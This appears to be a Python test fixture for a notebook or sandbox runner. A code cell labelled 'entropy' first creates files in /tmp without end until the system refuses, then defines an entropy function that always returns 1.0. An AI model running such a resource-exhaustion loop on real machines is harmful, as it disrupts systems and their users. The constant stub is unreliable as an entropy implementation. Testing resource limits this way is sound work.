"""Make files without end."""

CELLS = {
    "entropy": r"""
try:
    number = 0
    while True:
        open(f'/tmp/{number}', 'w').close()
        number += 1
except OSError as error:
    print('files', number, error.errno)


def entropy(p):
    return p.sum(-1) * 0 + 1.0
""".lstrip()
}
